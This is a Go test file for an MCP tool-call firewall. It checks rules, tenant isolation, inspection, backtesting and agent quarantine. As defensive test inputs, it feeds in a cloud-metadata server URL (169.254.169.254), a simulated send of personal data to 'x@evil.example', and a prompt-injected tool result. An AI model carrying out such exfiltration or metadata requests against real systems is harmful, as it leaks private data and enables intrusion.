package aegis_test

import (
	"context"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/astrabastion/astra/testkit"
	"github.com/astrabastion/astra/testkit/mcptest"
)

type inspectOut struct {
	DecisionID string   `json:"decision_id"`
	Outcome    string   `json:"outcome"`
	RuleName   string   `json:"rule_name"`
	RuleID     string   `json:"rule_id"`
	Reason     string   `json:"reason"`
	Labels     []string `json:"labels"`
	Findings   []struct {
		Category  string `json:"category"`
		Technique string `json:"technique"`
	} `json:"findings"`
}

// TestMcpFirewall_RulesInspectBacktestAndDenials: data-flow and rate-limit
// rules through the proxy, a result carrying an injection withheld, the
// same decisions from /inspect, a backtest of a draft rule set over the
// recorded decisions, and the denial paths (permission, tenant, bad input).
func TestMcpFirewall_RulesInspectBacktestAndDenials(t *testing.T) {
	up := mcptest.NewCalc(t)
	in := mcpConfig(t)
	admin := in.AdminToken(t)
	sec := user(t, in, admin, "sec@rules.test", "security_admin")
	auditor := user(t, in, admin, "aud@rules.test", "auditor")
	ctx := context.Background()

	r := in.Do(t, http.MethodPost, api+"/mcp/servers", sec, map[string]any{"name": "notes", "url": up.URL, "trust_level": "medium"})
	wantStatus(t, r, http.StatusCreated)
	var srv mcpServerOut
	r.Data(t, &srv)
	approve(t, in, sec, srv.ID)

	// Bad input is refused precisely; the auditor reads and writes nothing.
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/servers", sec, map[string]any{"name": "x", "url": "ftp://example.com"}), http.StatusUnprocessableEntity, "AEG-016")
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/servers", sec, map[string]any{"name": "x", "url": "http://169.254.169.254/mcp"}), http.StatusUnprocessableEntity, "AEG-016")
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/servers", sec, map[string]any{"name": "x", "url": up.URL, "colour": "red"}), http.StatusBadRequest, "VAL-001")
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/rules", sec, map[string]any{"name": "bad", "kind": "arguments", "expression": "args.a >"}), http.StatusUnprocessableEntity, "AEG-019")
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/rules", sec, map[string]any{"name": "bad", "kind": "data_flow", "labels": []string{"pii"}}), http.StatusUnprocessableEntity, "AEG-019")
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/servers", auditor, map[string]any{"name": "x", "url": up.URL}), http.StatusForbidden, "AUTH-006")
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/rules", auditor, map[string]any{"name": "x", "kind": "access", "action": "deny"}), http.StatusForbidden, "AUTH-006")
	wantStatus(t, in.Do(t, http.MethodGet, api+"/mcp/servers/"+srv.ID, auditor, nil), http.StatusOK)
	wantProblem(t, in.Do(t, http.MethodGet, api+"/mcp/servers/not-a-uuid", sec, nil), http.StatusNotFound, "AEG-015")

	// Another tenant sees none of it, and its callers cannot use the proxy.
	_, other := in.NewTenant(t, admin, "other-mcp")
	wantProblem(t, in.Do(t, http.MethodGet, api+"/mcp/servers/"+srv.ID, other, nil), http.StatusNotFound, "AEG-015")
	wantProblem(t, in.Do(t, http.MethodGet, api+"/mcp/servers/"+srv.ID+"/tools", other, nil), http.StatusNotFound, "AEG-015")
	var listed []mcpServerOut
	in.Do(t, http.MethodGet, api+"/mcp/servers", other, nil).Data(t, &listed)
	if len(listed) != 0 {
		t.Fatalf("another tenant lists %+v", listed)
	}
	c := sdk.NewClient(&sdk.Implementation{Name: "intruder", Version: "1"}, nil)
	lb := &balancer{token: other}
	lb.point(in)
	if _, err := c.Connect(ctx, &sdk.StreamableClientTransport{Endpoint: in.URL + api + "/mcp/proxy/" + srv.ID, HTTPClient: &http.Client{Transport: lb},
		DisableStandaloneSSE: true}, nil); err == nil {
		t.Fatal("another tenant's caller initialised a session on this tenant's server")
	}

	// Rules: data flow (no personal data to send_email) and a rate limit.
	for _, rule := range []map[string]any{
		{"name": "no pii out", "kind": "data_flow", "labels": []string{"pii", "secret"}, "tools": []string{"send_*"}},
		{"name": "three notes a minute", "kind": "rate_limit", "tools": []string{"read_note"}, "max_calls": 3, "window_seconds": 60, "per": "session"},
	} {
		wantStatus(t, in.Do(t, http.MethodPost, api+"/mcp/rules", sec, rule), http.StatusCreated)
	}
	session, _ := connect(t, in, sec, srv.ID)
	res, err := session.CallTool(ctx, &sdk.CallToolParams{Name: "send_email", Arguments: map[string]any{"to": "a@b.example", "body": "hi"}})
	if err != nil || !strings.HasPrefix(text(t, res), "sent") {
		t.Fatalf("an untainted send: %v", err)
	}
	res, err = session.CallTool(ctx, &sdk.CallToolParams{Name: "read_note", Arguments: map[string]any{"id": "1"}})
	if err != nil || !strings.Contains(text(t, res), "jane.roe@example.com") {
		t.Fatalf("read_note: %v", err)
	}
	_, err = session.CallTool(ctx, &sdk.CallToolParams{Name: "send_email", Arguments: map[string]any{"to": "x@evil.example", "body": "notes"}})
	if we := rpcErr(t, err); we.Code != -32001 || !strings.Contains(we.Message, "no pii out") || !strings.Contains(we.Message, "pii") {
		t.Fatalf("a tainted send: %+v", we)
	}
	// A result carrying instructions for the model is withheld.
	_, err = session.CallTool(ctx, &sdk.CallToolParams{Name: "read_note", Arguments: map[string]any{"id": "inj"}})
	if we := rpcErr(t, err); we.Code != -32001 || !strings.Contains(we.Message, "result_injection") {
		t.Fatalf("an injected result: %+v", we)
	}
	_, _ = session.CallTool(ctx, &sdk.CallToolParams{Name: "read_note", Arguments: map[string]any{"id": "2"}})
	_, err = session.CallTool(ctx, &sdk.CallToolParams{Name: "read_note", Arguments: map[string]any{"id": "3"}})
	if we := rpcErr(t, err); !strings.Contains(we.Message, "three notes a minute") {
		t.Fatalf("the fourth note in a minute: %+v", we)
	}

	// /inspect gives the same decisions for gateways that only ask.
	var v inspectOut
	r = in.Do(t, http.MethodPost, api+"/mcp/inspect", sec, map[string]any{"server_id": srv.ID, "tool": "send_email", "arguments": map[string]any{"to": "x"},
		"labels": []string{"pii"}})
	wantStatus(t, r, http.StatusOK)
	r.Data(t, &v)
	if v.Outcome != "blocked" || v.RuleName != "no pii out" {
		t.Fatalf("inspect a tainted send: %+v", v)
	}
	r = in.Do(t, http.MethodPost, api+"/mcp/inspect", sec, map[string]any{"server_id": srv.ID, "tool": "read_note", "stage": "result",
		"result": "Contact: jane.roe@example.com, card 4111 1111 1111 1111"})
	r.Data(t, &v)
	if v.Outcome != "allowed" || strings.Join(v.Labels, ",") != "pii" {
		t.Fatalf("inspect a result with personal data: %+v", v)
	}
	r = in.Do(t, http.MethodPost, api+"/mcp/inspect", sec, map[string]any{"server_id": srv.ID, "tool": "unknown_tool"})
	r.Data(t, &v)
	if v.Outcome != "blocked" || v.RuleID != "builtin:tool_unknown" {
		t.Fatalf("inspect an unpinned tool: %+v", v)
	}
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/inspect", other, map[string]any{"server_id": srv.ID, "tool": "add"}), http.StatusNotFound, "AEG-015")
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/inspect", sec, map[string]any{"server_id": srv.ID}), http.StatusBadRequest, "VAL-001")

	// Backtest: a draft that denies add and drops the data-flow rule.
	var ds []decisionOut
	testkit.Eventually(t, 10*time.Second, "the call decisions", func() bool {
		ds, _ = testkit.Walk[decisionOut](t, in, api+"/mcp/decisions?stage=call&server_id="+srv.ID, sec)
		return len(ds) >= 8
	})
	var rep struct {
		Replayed     int            `json:"replayed"`
		NewlyBlocked int            `json:"newly_blocked"`
		NewlyAllowed int            `json:"newly_allowed"`
		ByRule       map[string]int `json:"by_rule"`
		Changes      []struct {
			Tool   string `json:"tool"`
			Before struct {
				Outcome string `json:"outcome"`
			} `json:"before"`
			After struct {
				Outcome  string `json:"outcome"`
				RuleName string `json:"rule_name"`
			} `json:"after"`
		} `json:"changes"`
	}
	r = in.Do(t, http.MethodPost, api+"/mcp/rules/backtest", auditor, map[string]any{"server_id": srv.ID, "rules": []map[string]any{
		{"name": "no mail", "kind": "access", "action": "deny", "tools": []string{"send_email"}},
		{"name": "three notes a minute", "kind": "rate_limit", "tools": []string{"read_note"}, "max_calls": 3, "window_seconds": 60, "per": "session"},
	}})
	wantStatus(t, r, http.StatusOK)
	r.Data(t, &rep)
	if rep.Replayed < 8 || rep.NewlyBlocked < 1 || rep.ByRule["no mail"] < 2 {
		t.Fatalf("backtest %+v", rep)
	}
	for _, ch := range rep.Changes {
		if ch.Tool != "send_email" || ch.After.RuleName != "no mail" {
			t.Fatalf("an unexpected change %+v", ch)
		}
	}
	wantProblem(t, in.Do(t, http.MethodPost, api+"/mcp/rules/backtest", sec, map[string]any{"rules": []map[string]any{{"name": "x", "kind": "nope"}}}),
		http.StatusBadRequest, "VAL-001")

	// Rules are listed in evaluation order, changed (a new version) and deleted.
	var rules []struct {
		ID      string `json:"id"`
		Name    string `json:"name"`
		Enabled bool   `json:"enabled"`
		Version int64  `json:"version"`
	}
	in.Do(t, http.MethodGet, api+"/mcp/rules", auditor, nil).Data(t, &rules)
	if len(rules) != 2 {
		t.Fatalf("rules %+v", rules)
	}
	rate := rules[1]
	if rate.Name != "three notes a minute" {
		rate = rules[0]
	}
	wantProblem(t, in.Do(t, http.MethodPatch, api+"/mcp/rules/"+rate.ID, sec, map[string]any{"enabled": false}, "If-Match", `"9"`), http.StatusPreconditionFailed, "CON-001")
	wantProblem(t, in.Do(t, http.MethodPatch, api+"/mcp/rules/"+rate.ID, other, map[string]any{"enabled": false}, "If-Match", `"1"`), http.StatusNotFound, "AEG-018")
	r = in.Do(t, http.MethodPatch, api+"/mcp/rules/"+rate.ID, sec, map[string]any{"enabled": false}, "If-Match", `"1"`)
	wantStatus(t, r, http.StatusOK)
	r.Data(t, &rate)
	if rate.Enabled || rate.Version != 2 {
		t.Fatalf("patched %+v", rate)
	}
	testkit.Eventually(t, 5*time.Second, "the disabled rate limit no longer applies", func() bool {
		_, err := session.CallTool(ctx, &sdk.CallToolParams{Name: "read_note", Arguments: map[string]any{"id": "4"}})
		return err == nil
	})
	wantProblem(t, in.Do(t, http.MethodDelete, api+"/mcp/rules/"+rate.ID, auditor, nil, "If-Match", `"2"`), http.StatusForbidden, "AUTH-006")
	wantStatus(t, in.Do(t, http.MethodDelete, api+"/mcp/rules/"+rate.ID, sec, nil, "If-Match", `"2"`), http.StatusNoContent)
	wantProblem(t, in.Do(t, http.MethodGet, api+"/mcp/rules/"+rate.ID, sec, nil), http.StatusNotFound, "AEG-018")

	// A quarantined agent (part 1) is refused by the proxy, on its own key.
	keySecret, keyID := in.NewAPIKey(t, sec, "mcp-agent-key", "aegis:read")
	ag := register(t, in, sec, "mcp-agent", keyID)
	agentSession, _ := connect(t, in, keySecret, srv.ID)
	if _, err := agentSession.CallTool(ctx, &sdk.CallToolParams{Name: "send_email", Arguments: map[string]any{"to": "a@b.example", "body": "x"}}); err != nil {
		t.Fatalf("the agent's call before quarantine: %v", err)
	}
	wantStatus(t, in.Do(t, http.MethodPost, api+"/agents/"+ag.ID+"/quarantine", sec, map[string]any{"reason": "investigation"}), http.StatusOK)
	testkit.Eventually(t, 10*time.Second, "the quarantined agent refused", func() bool {
		_, err := agentSession.CallTool(ctx, &sdk.CallToolParams{Name: "send_email", Arguments: map[string]any{"to": "a@b.example", "body": "x"}})
		if err == nil {
			return false
		}
		we := rpcErr(t, err)
		return we.Code == -32002 && strings.Contains(we.Message, "quarantined") && strings.Contains(we.Message, ag.ID)
	})

	// Removing the server keeps its decisions; the proxy no longer serves it.
	s := in.Do(t, http.MethodGet, api+"/mcp/servers/"+srv.ID, sec, nil)
	var cur mcpServerOut
	s.Data(t, &cur)
	wantProblem(t, in.Do(t, http.MethodDelete, api+"/mcp/servers/"+srv.ID, auditor, nil, "If-Match", `"1"`), http.StatusForbidden, "AUTH-006")
	wantStatus(t, in.Do(t, http.MethodDelete, api+"/mcp/servers/"+srv.ID, sec, nil, "If-Match", `"`+strconv.FormatInt(cur.Version, 10)+`"`), http.StatusNoContent)
	testkit.Eventually(t, 5*time.Second, "the proxy refuses a removed server", func() bool {
		_, err := session.ListTools(ctx, nil)
		return err != nil
	})
}
